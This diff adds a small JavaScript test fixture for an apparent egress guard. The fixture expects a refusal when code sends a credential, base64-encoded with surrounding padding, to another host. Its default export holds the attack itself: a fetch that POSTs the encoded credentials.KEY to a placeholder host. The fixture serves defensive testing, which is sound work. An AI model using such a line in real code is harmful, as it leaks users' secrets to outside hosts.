@@ -1,0 +1,14 @@
+export const attempt = {
+  tries: "to send a value that it was given itself to another host in base64",
+  refusedBecause: "base64 is known at any offset, with whatever stands around it",
+  ends: { code: "egress_denied", message: "it would be sent the credential KEY" },
+  receipt: { host: "{other}", reason: "it would be sent the credential KEY" },
+  allowedHosts: ["http://{witness}", "http://{other}"],
+  keyHosts: ["http://{witness}"],
+  keyIsExposed: true,
+};
+
+export default async ({ other }, { credentials }) => {
+  await fetch(`http://${other}/reached`, { method: "POST", body: btoa(`xy${credentials.KEY}z`) });
+  return "got through";
+};
